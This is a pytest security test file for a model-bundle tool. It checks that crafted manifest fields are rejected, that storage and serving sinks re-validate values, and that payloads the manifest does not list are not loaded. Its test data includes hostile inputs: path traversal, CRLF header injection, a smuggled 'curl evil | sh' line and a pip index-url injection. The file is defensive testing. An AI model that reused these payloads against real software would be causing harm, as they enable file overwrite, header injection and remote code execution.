"""Hostile and malformed manifests: every value from a bundle is checked before it names a file, a header or a
metric label; a malformed manifest is one clear line, never a traceback; payloads load only when listed."""

from __future__ import annotations

import copy
import json
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner

import berth
from berth.cli import app
from berth.errors import BundleError, UsageError
from berth.manifest import MANIFEST_NAME
from berth.monitoring.store import Store
from berth.serving.slot import check_served
from tests.security.conftest import IRIS_X
from tests.serving.conftest import make_client

BERTH = Path(sys.executable).parent / "berth"


def crafted_bundle(small_bundle: Path, tmp_path: Path, change: Any) -> Path:
    """A copy of the small bundle whose manifest went through ``change(data)`` (payload untouched)."""
    bundle = tmp_path / "crafted"
    shutil.copytree(small_bundle, bundle)
    data = json.loads((bundle / MANIFEST_NAME).read_text())
    result = change(data)
    text = result if isinstance(result, str | bytes) else json.dumps(data)
    (bundle / MANIFEST_NAME).write_bytes(text.encode() if isinstance(text, str) else text)
    return bundle


def setter(path: str, value: Any) -> Any:
    def change(data: dict[str, Any]) -> None:
        *parents, last = path.split(".")
        target = data
        for key in parents:
            target = target.setdefault(key, {}) if isinstance(target, dict) else target[int(key)]
        if isinstance(target, list):
            target[int(last)] = value
        else:
            target[last] = value
    return change


HOSTILE = {
    "name-traversal": (setter("name", "../../etc/x"), "name: '../../etc/x' is not a valid name"),
    "name-crlf": (setter("name", "iris\r\nX-Injected: 1"), "name: 'iris\\r\\nX-Injected: 1'"),
    "name-10kB": (setter("name", "a" * 10_000), "is not a valid name"),
    "name-unicode": (setter("name", "iris\u202egnp.exe"), "is not a valid name"),
    "name-not-a-string": (setter("name", ["iris"]), "name: ['iris'] is not a valid name"),
    "version-crlf": (setter("metadata.registry_version", "1\r\nSet-Cookie: x=1"), "metadata.registry_version"),
    "version-traversal": (setter("metadata.registry_version", "../../../../tmp/owned"), "metadata.registry_version"),
    "version-10kB": (setter("metadata.registry_version", "1" * 10_000), "metadata.registry_version"),
    "version-not-scalar": (setter("metadata.registry_version", {"a": 1}), "metadata.registry_version"),
    "python-newline": (setter("python", "3.11\nRUN curl evil | sh"), "python: "),
    "library-name-injection": (setter("libraries", {"numpy\n--index-url http://evil": "1.0"}),
                               "is not a distribution name"),
    "library-version-injection": (setter("libraries", {"numpy": "1.0 --hash=sha256:00"}), "libraries.numpy"),
    "flavor-path": (setter("flavor", "../sklearn"), "flavor: '../sklearn' is not an identifier"),
    "file-path-traversal": (setter("files.0.path", "../model.skops"), "files[0].path: '../model.skops'"),
    "file-path-absolute": (setter("files.0.path", "/etc/passwd"), "files[0].path: '/etc/passwd' is not a relative"),
    "file-path-unicode": (setter("files.0.path", "mod\u0435l.skops"), "files[0].path"),
    "file-path-manifest": (setter("files.0.path", "berth.json"), "is the manifest's own name"),
    "column-name-control": (setter("signature.columns.0.name", "x\x1b[31m"), "signature.columns[0].name"),
}
MALFORMED = {
    "files-not-a-list": (setter("files", {"model.skops": 1}), "files: must be a list"),
    "size-a-string": (setter("files.0.size", "12"), "files[0].size: '12' is not an integer"),
    "size-huge": (setter("files.0.size", 10**30), "files[0].size"),
    "size-negative": (setter("files.0.size", -1), "files[0].size"),
    "size-bool": (setter("files.0.size", True), "files[0].size"),
    "sha-short": (setter("files.0.sha256", "abc"), "files[0].sha256"),
    "extra-file-key": (setter("files.0.mode", "0777"), "files[0]: must be an object with exactly"),
    "signature-wrong": (setter("signature", {"layout": "matrix"}), "signature.layout"),
    "shape-absurd-rank": (setter("signature", {"layout": "tensor", "outputs": {"kind": "tensor", "dtype": "f"},
                                               "tensor": {"dtype": "float32", "shape": [-1] * 1000}}),
                          "signature.tensor.shape"),
    "tags-not-strings": (setter("tags", {"a": {"b": 1}}), "tags: must be an object of strings"),
    "metadata-a-list": (setter("metadata", [1, 2]), "metadata: must be an object"),
    "absurd-nesting": (lambda data: '{"format_version": 1, "metadata": ' + "[" * 100_000 + "]" * 100_000 + "}",
                       "nested too deeply"),
    "deep-but-parseable": (setter("metadata", json.loads("[" * 200 + "]" * 200)), "nested deeper than 64"),
    "huge-number-literal": (lambda data: json.dumps(data).replace('"format_version": 1', '"format_version": '
                                                                   + "9" * 5000), "not valid JSON"),
    "infinity-size": (lambda data: json.dumps(data).replace(f'"size": {data["files"][0]["size"]}',
                                                            '"size": 1e999'), "files[0].size"),
    "not-an-object": (lambda data: "[1, 2, 3]", "must hold a JSON object, not list"),
    "a-string": (lambda data: '"berth"', "must hold a JSON object, not str"),
    "null": (lambda data: "null", "must hold a JSON object, not NoneType"),
    "format-version-string": (setter("format_version", "1"), "format_version must be an integer"),
    "missing-name": (lambda data: json.dumps({k: v for k, v in data.items() if k != "name"}), "name: is missing"),
    "not-utf8": (lambda data: b"\xff\xfe{}", "not valid JSON"),
}


@pytest.mark.parametrize("case", [*HOSTILE, *MALFORMED])
@pytest.mark.parametrize("entry_point", ["load", "inspect", "verify"])
def test_refused_with_one_line_naming_the_field(case: str, entry_point: str, small_bundle: Path,
                                                tmp_path: Path) -> None:
    change, fragment = {**HOSTILE, **MALFORMED}[case]
    bundle = crafted_bundle(small_bundle, tmp_path, change)
    with pytest.raises(BundleError) as caught:
        getattr(berth, entry_point)(bundle)
    message = caught.value.message
    assert "\n" not in message and len(message) < 600, message
    assert fragment in message, message


@pytest.mark.parametrize("case", ["name-crlf", "absurd-nesting", "not-an-object", "size-a-string"])
def test_the_cli_prints_one_line_and_no_traceback(case: str, small_bundle: Path, tmp_path: Path) -> None:
    change, fragment = {**HOSTILE, **MALFORMED}[case]
    bundle = crafted_bundle(small_bundle, tmp_path, change)
    result = CliRunner().invoke(app, ["inspect", str(bundle)])
    assert result.exit_code == 1
    assert result.stderr.startswith("error: ") and result.stderr.count("\n") == 1, result.stderr
    assert fragment in result.stderr


def test_the_console_script_exits_1_on_a_malformed_manifest(small_bundle: Path, tmp_path: Path) -> None:
    bundle = crafted_bundle(small_bundle, tmp_path, MALFORMED["absurd-nesting"][0])
    done = subprocess.run([str(BERTH), "verify", str(bundle)], capture_output=True, text=True, timeout=120)
    assert done.returncode == 1 and "Traceback" not in done.stderr
    assert done.stderr.startswith("error: ") and done.stderr.count("\n") == 1, done.stderr


def test_a_crafted_name_is_refused_even_when_saving(tmp_path: Path) -> None:
    from sklearn.linear_model import LogisticRegression

    model = LogisticRegression().fit(IRIS_X.head(20), [0, 1] * 10)
    with pytest.raises(UsageError, match="name: '../x' is not a valid name"):
        berth.save(model, tmp_path / "a", name="../x")
    assert berth.save(model, tmp_path / "my model (v2)").name == "my-model-v2"  # a derived name is cleaned


# --------------------------------------------------------------------------- the sinks check again


@pytest.mark.parametrize("version", ["../../../owned", "1\r\nX: y", "a" * 65, "", "ü"])
def test_the_store_refuses_a_version_that_would_leave_it(version: str, tmp_path: Path) -> None:
    store = Store(tmp_path / "store")
    with pytest.raises(UsageError, match="invalid model version"):
        store.save_version("iris", version, {})
    assert not any(p.suffix == ".json" for p in tmp_path.rglob("*"))


@pytest.mark.parametrize("model", ["../x", "x/../../y", "", ".hidden", "a" * 129])
def test_the_store_refuses_a_model_name_that_would_leave_it(model: str, tmp_path: Path) -> None:
    with pytest.raises(UsageError, match="invalid model name"):
        Store(tmp_path / "store").save_version(model, "1", {})


def test_the_store_refuses_a_path_that_links_out(tmp_path: Path) -> None:
    (tmp_path / "store").mkdir()
    (tmp_path / "elsewhere").mkdir()
    (tmp_path / "store" / "iris").symlink_to(tmp_path / "elsewhere")
    with pytest.raises(UsageError, match="outside the monitoring store"):
        Store(tmp_path / "store").save_version("iris", "1", {})
    assert list((tmp_path / "elsewhere").iterdir()) == []


@pytest.mark.parametrize(("name", "version"), [("iris\r\nX: 1", "1"), ("iris", "1\nX: 1"), ("iris", "x" * 100),
                                               ("../iris", "1")])
def test_served_names_and_versions_are_checked_at_the_slot(name: str, version: str) -> None:
    with pytest.raises(BundleError, match="cannot serve this model"):
        check_served(name, "iris", version)


def test_a_server_given_a_model_whose_manifest_was_changed_in_memory_does_not_serve_it(small_bundle: Path) -> None:
    """The parse-time check is bypassed (a LoadedModel edited after loading): the slot's check still holds, so
    no crafted value reaches a header, a label or the store."""
    model = berth.load(small_bundle)
    model.manifest.metadata["registry_version"] = "1\r\nSet-Cookie: owned=1"
    with make_client([model]) as client:
        ready = client.get("/health/ready")
        assert ready.status_code == 503
        assert "is not a valid version" in str(ready.json()["problems"])
        response = client.post("/predict", json={"instances": [[5.1, 3.5, 1.4, 0.2]]})
        assert response.status_code == 404 and "set-cookie" not in response.headers


def test_served_headers_and_labels_carry_only_checked_values(small_bundle: Path) -> None:
    with make_client([small_bundle]) as client:
        response = client.post("/predict", json={"instances": [[5.1, 3.5, 1.4, 0.2]]})
        assert response.status_code == 200
        assert response.headers["x-berth-model"] == "iris"
        assert response.headers["x-berth-model-version"].isalnum()


# --------------------------------------------------------------------------- payloads must be listed


def test_a_payload_the_manifest_does_not_list_is_not_loaded(small_bundle: Path, tmp_path: Path) -> None:
    bundle = crafted_bundle(small_bundle, tmp_path, setter("files", []))
    assert berth.verify(bundle).files == []  # nothing listed: nothing to verify...
    with pytest.raises(BundleError, match="does not list model.skops.*refusing to load it"):
        berth.load(bundle)  # ...so nothing is loaded


def test_an_unlisted_pickle_is_not_loaded_even_with_trust(tmp_path: Path) -> None:
    class Echo:
        def predict(self, rows: Any) -> Any:
            return rows

    berth.save(Echo(), tmp_path / "echo", sample=[[1.0]], flavor="python")
    data = json.loads((tmp_path / "echo" / MANIFEST_NAME).read_text())
    listed = copy.deepcopy(data)
    data["files"] = []
    (tmp_path / "echo" / MANIFEST_NAME).write_text(json.dumps(data))
    with pytest.raises(BundleError, match="does not list model.cloudpickle"):
        berth.load(tmp_path / "echo", trust=True)
    (tmp_path / "echo" / MANIFEST_NAME).write_text(json.dumps(listed))
    assert berth.load(tmp_path / "echo", trust=True).predict([[2.0]]).tolist() == [[2.0]]
